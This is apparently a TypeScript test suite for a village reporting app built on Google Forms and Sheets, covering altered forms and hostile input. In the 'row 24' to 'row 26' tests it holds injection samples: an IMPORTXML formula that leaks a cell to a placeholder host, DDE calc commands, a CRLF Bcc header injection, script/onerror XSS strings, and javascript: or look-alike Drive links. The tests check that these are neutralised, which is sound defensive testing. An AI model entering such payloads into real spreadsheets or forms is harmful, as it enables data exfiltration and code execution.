import { copyFile } from '../../local/services/drive/copyFile';
import type { FormItem } from '../../local/state/form';
import { createApp } from '../../local/web/app';
import { beginEach } from '../support/beginEach';
import { sleepUntil } from '../support/crashes';
import { linkedCopy } from '../support/linkedCopy';
import {
  expectReceived,
  expectStopped,
  historyOf,
  mailsSince,
  post,
  removeRules,
  tabsOf,
} from '../support/received';
import { openStory, type Story, type Told } from '../support/story';
import { KASI, OWNER, VILLAGES } from '../support/threeVillages';
import { differenceOf } from '../support/storyState';

/** Rows 22 and 24–26 of the table of input (reports.md §6): forms that people changed, and hostile text. */
let story: Story;

beginEach(async () => {
  story = await openStory();
  await sleepUntil(story, '2026-08-03T09:14');
  return story;
});

/** A question of a village's form, to be changed by hand. */
function question(title: string, page = ''): FormItem {
  let at = '';
  for (const item of story.form('balang').items) {
    if (item.type === 'PAGE_BREAK') at = item.title;
    else if (item.title === title && at.includes(page)) return item;
  }
  throw new Error(`No question ${title}.`);
}
const changed = (): void => {
  story.workspace.store.touch('form', story.form('balang').id);
};
const health = (): Promise<string> => story.health();

describe('row 22, forms that people changed', () => {
  test('a copied form collects by itself: nothing of it reaches the office', async () => {
    const form = story.form('balang');
    const file = story.workspace.store.get('file', form.id);
    if (file === undefined) throw new Error('The form is no file.');
    const copy = copyFile(story.workspace.runtimeFor(OWNER), file, 'Salinan', file.parentId);
    const copied = story.workspace.store.get('form', copy.id);
    if (copied === undefined) throw new Error('Nothing was copied.');
    Object.assign(copied, { published: true, acceptingResponses: true });
    const before = tabsOf(story).filter((line) => !line.startsWith('form '));
    const answer = await createApp(story.workspace).request(`/forms/d/e/${copied.publishedId}/formResponse`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: `as=${OWNER}` },
      body: '',
    });
    expect(answer.status).toBe(400);
    await story.advance('PT2H');
    expect(
      differenceOf(
        before,
        tabsOf(story).filter((line) => !line.startsWith('form ')),
      ),
    ).toEqual([]);
  });

  test('a copied form that somebody links to Respons is named, and what it collects changes no figure', async () => {
    expect(await health()).not.toContain('Formulir lain');
    const copied = linkedCopy(story, story.form('balang'));
    Object.assign(copied, { published: true, acceptingResponses: true });
    for (const item of copied.items) item.required = false;
    const figures = (): string[] => tabsOf(story).filter((line) => line.includes('/Data Kependudukan/'));
    const before = figures();
    const answer = await createApp(story.workspace).request(`/forms/d/e/${copied.publishedId}/formResponse`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: `as=${OWNER}` },
      body: '',
    });
    expect([answer.status, copied.responses.length]).toEqual([200, 1]);
    await story.advance('PT2H');
    expect(figures()).toEqual(before);
    expect(await health()).toContain('Formulir lain tersambung ke berkas Respons (tab ');
    await expectReceived(story, 'balang', {}, { state: 'Diterima' });
    const home = (): string => story.rows('Beranda').flat().join(' ');
    await story.pass('2026-08-04T01:10');
    expect(home()).toContain('Karantina: jawaban formulir yang tidak dikenal masuk ke berkas Respons (tab ');
    delete copied.destination;
    const book = story.workspace.store.get(
      'spreadsheet',
      story.form('balang').destination?.spreadsheetId ?? '',
    );
    for (const sheet of book?.sheets ?? []) if (sheet.formId === copied.id) delete sheet.formId;
    await story.pass('2026-08-05T01:10');
    expect(home()).not.toContain('Karantina');
  });

  test.each(['population', 'readiness', 'activities'] as const)(
    'a renamed question of %s is known by its id',
    async (type) => {
      const label = { population: 'Catatan', readiness: 'Senter', activities: 'Lokasi' }[type];
      const told: Told = { type };
      const renamed = question(label);
      const entry = String(renamed.entryIds[0]);
      renamed.title = 'Judul lain';
      changed();
      const text = type === 'readiness' ? '7' : 'Tertulis di sini';
      const sent = await post(story, 'balang', told, { [entry]: text }, [label]);
      expect(historyOf(story, sent.response?.id ?? '')?.['Keadaan']).toBe('✓ Diterima');
      const tab = { population: 'Data Kependudukan', activities: 'Data Kegiatan', readiness: 'Data Linmas' };
      expect(story.rows(tab[type]).flat()).toContain(text);
    },
  );

  test('a relabelled choice is put aside, the sender is told not to worry, other villages go on', async () => {
    const kind = question('Jenis kegiatan');
    kind.choices?.splice(1, 1, { value: 'Patroli malam' });
    changed();
    const words = 'Tidak kami kenal: pilihan "Patroli malam" pada pertanyaan "Jenis kegiatan".';
    await expectReceived(
      story,
      'balang',
      { type: 'activities', answers: { kind: 'Patroli malam' } },
      {
        state: 'Karantina',
        found: [words],
        mail: ['Ditahan', words, 'tidak perlu dikirim ulang'],
        status: ['karantina', words],
      },
    );
    expect(story.rows('Antrean Tinjau').flat().join(' ')).toContain(
      'Periksa formulirnya, lalu lepas atau tolak',
    );
    await expectReceived(story, 'other', { type: 'activities' }, { state: 'Diterima' });
    expect(await health()).toContain('Formulir Desa Balang berbeda dari pengaturan');
  });

  test('an added question is put aside and named by the health check', async () => {
    const form = story.form('balang');
    const [model] = form.items.filter((item) => item.title === 'Nama petugas pelapor');
    if (model === undefined) throw new Error('The form has no head.');
    form.items.splice(form.items.indexOf(model) + 1, 0, {
      ...model,
      id: 424_242,
      entryIds: [424_243],
      title: 'Nomor HP',
      required: false,
    });
    changed();
    const sent = await post(story, 'balang', {}, { '424243': '081200000009' });
    const row = historyOf(story, sent.response?.id ?? '');
    expect(row?.['Keadaan']).toContain('Karantina');
    expect(row?.['Yang ditemukan']).toContain('pertanyaan "Nomor HP"');
    expect(await health()).toContain('Formulir Desa Balang punya pertanyaan tambahan: “Nomor HP”');
    await story.decide(['Balang', 'Karantina'], 'Lepas');
    expect(historyOf(story, sent.response?.id ?? '')?.['Keadaan']).toBe('✓ Diterima');
  });

  test('a deleted question is missed in words that help, and named by the health check', async () => {
    const label = 'Kelahiran laki-laki (WNI)';
    const form = story.form('balang');
    form.items.splice(form.items.indexOf(question(label)), 1);
    changed();
    const before = story.mails.length;
    const sent = await post(story, 'balang', {}, {}, [label]);
    expect(sent.status).toBe(200);
    expect(historyOf(story, sent.response?.id ?? '')?.['Keadaan']).toBe('! Perlu Perbaikan');
    expect(mailsSince(story, before, VILLAGES.balang.operator)[0]).toContain(
      `${label}. Belum diisi. Mohon tulis angkanya; bila tidak ada, tulis 0. Bila pertanyaan ini tidak ada di formulir`,
    );
    expect(await health()).toContain('Formulir Desa Balang berbeda dari pengaturan');
    await expectReceived(story, 'other', {}, { state: 'Diterima' });
  });
});

const FORMULAS = [
  '=IMPORTXML("https://contoh.test/?a="&A1,"//a")',
  '=HYPERLINK("https://contoh.test","klik di sini")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '@SUM(A1:A9)',
  '\t=1+1 dan lain-lain',
  '\r=1+1 dan lain-lain',
  '＝1+1 dan lain-lain',
] as const;

/** Every cell that holds a formula. */
function formulas(): string[] {
  const { store } = story.workspace;
  return store
    .ids('spreadsheet')
    .flatMap((id) =>
      (store.get('spreadsheet', id)?.sheets ?? [])
        .filter((sheet) => sheet.formId === undefined)
        .flatMap((sheet) => sheet.rows.flatMap((row) => Object.values(row?.formulas ?? {}))),
    );
}

/** A text that somebody writes wherever a report of the type takes text. */
const written = (type: 'population' | 'activities' | 'readiness', text: string): Told => ({
  type,
  reporter: text,
  answers:
    type === 'activities'
      ? { description: text, location: text, leader: text, partners: text, notes: text }
      : type === 'readiness'
        ? { disturbances: text, notes: text }
        : { notes: text },
});
const TYPES = ['population', 'activities', 'readiness'] as const;

describe('row 24, what looks like a formula', () => {
  test.each(TYPES.flatMap((type) => FORMULAS.map((text) => [type, text] as const)))(
    '%s: %s stays text in every tab',
    async (type, text) => {
      await expectReceived(story, 'balang', written(type, text), { state: 'Diterima' });
      expect(formulas()).toEqual([]);
      const tab = { population: 'Data Kependudukan', activities: 'Data Kegiatan', readiness: 'Data Linmas' }[
        type
      ];
      expect(
        story
          .rows(tab)
          .flat()
          .filter((cell) => cell.includes(text.trim())).length,
      ).toBeGreaterThan(0);
    },
  );

  test('in the mail of an incident: escaped, and no line break in the subject', async () => {
    const kind = 'Kebakaran\r\nBcc: orang@contoh.test <b>besar</b>';
    removeRules(story, 'balang');
    const before = story.mails.length;
    await post(story, 'balang', {
      type: 'activities',
      answers: {
        incident: 'Ya',
        incidentKind: kind,
        incidentDeaths: 1,
        incidentInjured: 0,
        incidentHouseholds: 2,
        incidentFollowUp: '=HYPERLINK("https://contoh.test","x")',
      },
    });
    const [mail] = story.mails.slice(before);
    expect(mail?.to).toEqual([KASI]);
    expect(mail?.bcc).toEqual([]);
    expect(mail?.subject).toBe(
      '[KUDAPANMAS] Kejadian di Desa Balang: Kebakaran Bcc: orang@contoh.test <b>besar</b>',
    );
    expect(mail?.html).toContain('&lt;b&gt;besar&lt;/b&gt;');
    expect(mail?.html).not.toContain('<b>besar');
  });

  test('in the CSV of a data tab', async () => {
    await post(story, 'balang', written('activities', FORMULAS[0]));
    const gid = story.tab('Data Kegiatan').sheet.sheetId;
    const answer = await createApp(story.workspace).request(
      `/spreadsheets/d/${story.fileId}/export?format=csv&gid=${String(gid)}`,
      { headers: { cookie: `as=${OWNER}` } },
    );
    expect(answer.status).toBe(200);
    expect(await answer.text()).toContain('IMPORTXML(""https://contoh.test');
  });
});

describe('row 25, text that breaks other programs', () => {
  const script = '<script>alert(1)</script><img src=x onerror=alert(2)> & "kutip"';

  test.each(TYPES)('<script> in %s: text in tabs, escaped in mail', async (type) => {
    const { id } = await expectReceived(story, 'balang', written(type, script), { state: 'Diterima' });
    const before = story.mails.length;
    await story.advance('2026-08-03T09:30');
    await story
      .decide([historyOf(story, id)?.['Nomor laporan'] ?? ''], 'Kembalikan', script)
      .catch(async () => {
        // An activity without a warning waits for nobody.
        expect(type).toBe('activities');
      });
    for (const mail of story.mails.slice(before)) {
      expect(mail.html).not.toMatch(/<script|<img/);
      expect(mail.text).toContain('<script>');
    }
  });

  const long = `Mulai ${'panjang sekali '.repeat(200)}`;
  test('longer than the form takes', async () => {
    const told: Told = { type: 'readiness', answers: { notes: long } };
    await expectStopped(story, 'balang', told, 'Paling banyak 500 huruf');
    removeRules(story, 'balang');
    await expectReceived(story, 'balang', told, {
      state: 'Diterima',
      tidied: ['Catatan: Teks dipotong pada 500 huruf.'],
    });
    const cell =
      story
        .rows('Data Linmas')
        .flat()
        .find((text) => text.startsWith('Mulai panjang')) ?? '';
    expect(cell).toHaveLength(500);
    expect(cell.endsWith('…')).toBe(true);
  });

  test.each([
    ['emoji', 'Ronda aman 👨‍👩‍👧‍👦👍🏽 terima kasih', 'Ronda aman 👨‍👩‍👧‍👦👍🏽 terima kasih', undefined],
    [
      'line breaks',
      'Baris satu\r\nbaris dua\n\nbaris tiga',
      'Baris satu\nbaris dua\n\nbaris tiga',
      undefined,
    ],
    [
      'zero-width signs',
      'Ron\u200bda\u202e malam\ufeff hari',
      'Ronda malam hari',
      ['Karakter yang tidak tampak dibuang.'],
    ],
  ] as const)('%s', async (_name, text, kept, tidied) => {
    await expectReceived(
      story,
      'balang',
      { type: 'activities', answers: { description: text } },
      { state: 'Diterima', ...(tidied === undefined ? {} : { tidied }) },
    );
    expect(story.rows('Data Kegiatan').flat()).toContain(kept);
  });

  test('signs that format in WhatsApp are none there', async () => {
    removeRules(story, 'balang');
    await expectReceived(
      story,
      'balang',
      { answers: { birthsMale: '*_~dua~_*' } },
      { state: 'Perlu Perbaikan', mail: ['Tertulis "*_~dua~_*"'] },
    );
    const twin = story.records('Kirim WA', ['Pesan', 'Buka WhatsApp']).at(-1)?.['Pesan'] ?? '';
    expect(twin).toContain('∗ˍ∼dua∼ˍ∗');
    expect(twin).not.toContain('*_~');
  });
});

describe('row 26, links to photos', () => {
  const LINKS = [
    'https://contoh.test/foto.jpg',
    'javascript:alert(1)',
    'https://bit.ly/3abc',
    'https://drive.google.com.contoh.test/x',
    'https://drive.google.com@contoh.test/x',
    'http://drive.google.com/file/d/1',
  ] as const;

  test.each(LINKS)('%s: the form says what it takes', async (photoUrl) => {
    const told: Told = { type: 'activities', answers: { photo: 'Tautan', photoUrl } };
    await expectStopped(
      story,
      'balang',
      told,
      'Tempel link Google Drive atau Google Foto, dimulai dengan https://',
    );
  });

  test.each(LINKS)(
    '%s where somebody removed the rule: kept as text, never clickable, warned',
    async (photoUrl) => {
      removeRules(story, 'balang');
      const words = 'Link ini bukan dari Google Drive atau Google Foto, jadi tidak dapat diklik di rekap.';
      await expectReceived(
        story,
        'balang',
        { type: 'activities', answers: { photo: 'Tautan', photoUrl } },
        { state: 'Diterima', found: [words], status: [words] },
      );
      const before = story.mails.length;
      await story.advance('2026-08-03T17:40');
      expect(mailsSince(story, before, VILLAGES.balang.operator)[0]).toContain(words);
      const { store } = story.workspace;
      const links = store.ids('spreadsheet').flatMap((id) =>
        (store.get('spreadsheet', id)?.sheets ?? []).flatMap((sheet) =>
          sheet.rows.flatMap((row) =>
            Object.values(row?.richText ?? {})
              .flat()
              .map((run) => run.link ?? ''),
          ),
        ),
      );
      expect(links.filter((link) => link === photoUrl)).toEqual([]);
      for (const mail of story.mails) expect(mail.html).not.toContain(`href="${photoUrl}`);
    },
  );

  test.each(['https://drive.google.com/file/d/1abc/view', 'https://photos.app.goo.gl/abc'])(
    '%s is taken',
    async (photoUrl) => {
      const told: Told = { type: 'activities', answers: { photo: 'Tautan', photoUrl } };
      await expectReceived(story, 'balang', told, { state: 'Diterima' });
    },
  );

  test('Tautan without a link is told', async () => {
    const words = 'Foto dipilih Tautan, tetapi tautannya kosong.';
    await expectReceived(
      story,
      'balang',
      { type: 'activities', answers: { photo: 'Tautan' } },
      { state: 'Diterima', found: [words], status: [words] },
    );
  });
});
